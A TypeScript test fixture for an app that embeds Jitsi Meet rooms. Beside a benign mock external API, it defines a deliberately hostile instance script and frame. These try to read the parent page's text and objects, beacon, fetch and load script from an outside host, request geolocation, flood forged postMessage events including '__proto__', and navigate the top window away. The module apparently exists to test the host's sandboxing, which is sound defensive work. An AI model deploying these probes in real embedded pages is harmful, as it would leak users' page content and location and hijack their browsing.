/**
 * The interface of an instance, as protocols.md §4.1 says it: a constructor that puts the room into a
 * frame, commands to it and events from it as messages.
 */
export const EXTERNAL_API = `(() => {
  const origin = new URL(document.currentScript.src).origin;
  class JitsiMeetExternalAPI {
    constructor(domain, { roomName, parentNode, width, height, configOverwrite }) {
      const listeners = new Map();
      this.listeners = listeners;
      const frame = document.createElement('iframe');
      frame.allow = 'autoplay; camera; clipboard-write; display-capture; microphone';
      frame.setAttribute('allowFullScreen', 'true');
      frame.style.width = width;
      frame.style.height = height;
      const config = encodeURIComponent(JSON.stringify(configOverwrite));
      frame.src = origin + '/' + roomName + '#domain=' + domain + '&config=' + config;
      parentNode.append(frame);
      this.frame = frame;
      window.addEventListener('message', (message) => {
        if (message.source !== frame.contentWindow || message.origin !== origin) return;
        const { event, payload } = message.data;
        for (const listener of listeners.get(event) ?? []) listener(payload);
      });
    }
    addListener(name, listener) {
      this.listeners.set(name, [...(this.listeners.get(name) ?? []), listener]);
    }
    executeCommand(name, ...args) {
      this.frame.contentWindow.postMessage({ command: name, args }, origin);
    }
  }
  window.JitsiMeetExternalAPI = JitsiMeetExternalAPI;
})();`;

/** Passes on what the conference (the server) says and what the page around it commands. */
export const ROOM_PAGE = `<!doctype html>
<html lang="fr"><title>Jitsi Meet</title><h1>Salle ouverte</h1>
<script>
  const room = encodeURIComponent(location.pathname.slice(1));
  const conference = new EventSource('/conference?room=' + room);
  conference.onmessage = ({ data }) => parent.postMessage(JSON.parse(data), '*');
  addEventListener('message', ({ data }) => {
    if (data.command === undefined) return;
    fetch('/command', { method: 'POST', body: JSON.stringify(data) });
  });
</script></html>`;

/** Loaded, and mute. */
export const SILENT_PAGE =
  '<!doctype html><html lang="fr"><title>Jitsi Meet</title><h1>Salle ouverte</h1></html>';

/**
 * An instance that means ill: it tries what no room may do, from the page that runs its script and
 * from its own frame, and tells its server what it could.
 */
export function hostileApi(elsewhere: string): string {
  return `(() => {
    const origin = new URL(document.currentScript.src).origin;
    const frame = document.createElement('iframe');
    const done = {};
    const tell = () => frame.contentWindow.postMessage({ found: done }, origin);
    const attempt = (name, work) => {
      try { done[name] = String(work()); } catch (error) { done[name] = 'refused'; }
    };
    class JitsiMeetExternalAPI {
      constructor(domain, { parentNode }) {
        frame.src = origin + '/hostile-frame';
        frame.allow = 'camera; microphone; geolocation; display-capture';
        frame.onload = () => setTimeout(run, 200);
        parentNode.append(frame);
      }
      addListener() {}
      executeCommand() {}
    }
    function run() {
      const powers = ['meeting', 'continuo', 'chooser', 'require', 'process', 'electron'];
      done.powers = powers.filter((name) => name in window).join();
      attempt('parentPowers', () => Object.keys(parent.meeting));
      attempt('parentText', () => parent.document.body.innerText);
      attempt('opened', () => window.open('${elsewhere}/opened') !== null);
      fetch('${elsewhere}/fetched').then(() => { done.fetched = 'yes'; }, () => { done.fetched = 'refused'; });
      new Image().src = '${elsewhere}/image';
      const script = document.createElement('script');
      script.src = '${elsewhere}/script.js';
      document.head.append(script);
      attempt('sent', () => navigator.sendBeacon('${elsewhere}/beacon', 'x'));
      navigator.geolocation.getCurrentPosition(() => { done.place = 'yes'; }, () => { done.place = 'refused'; });
      for (let i = 0; i < 20000; i += 1) {
        const payload = { id: 'forged-' + i, displayName: 'Nom '.repeat(i === 0 ? 250000 : 1) + i };
        parent.postMessage({ kind: 'event', name: 'participantJoined', payload }, '*');
      }
      for (const forged of [null, 1, 'x', [], {}, { kind: 'event' }, { kind: 'event', name: '__proto__' },
        { kind: 'to-browser' }, { kind: 'failed', failure: 'refused' },
        { kind: 'event', name: 'participantJoined', payload: { id: {}, displayName: [] } },
        { kind: 'event', name: 'participantLeft', payload: null }]) parent.postMessage(forged, '*');
      setTimeout(() => {
        tell();
        setTimeout(() => {
          const other = document.createElement('iframe');
          other.src = '${elsewhere}/framed';
          document.body.append(other);
          location.href = '${elsewhere}/stage';
        }, 3000);
        attempt('top', () => { top.location.href = '${elsewhere}/top'; return 'went'; });
      }, 1500);
    }
    window.JitsiMeetExternalAPI = JitsiMeetExternalAPI;
  })();`;
}

/** Its own frame: tells its server what was found, and tries to leave for another site. */
export function hostileFrame(elsewhere: string): string {
  return `<!doctype html><html lang="fr"><title>Jitsi Meet</title><h1>Salle</h1><script>
    addEventListener('message', ({ data }) => {
      if (data.found === undefined) return;
      fetch('/found', { method: 'POST', body: JSON.stringify(data.found) });
      setTimeout(() => { location.href = '${elsewhere}/frame-left'; }, 6000);
    });
  </script></html>`;
}
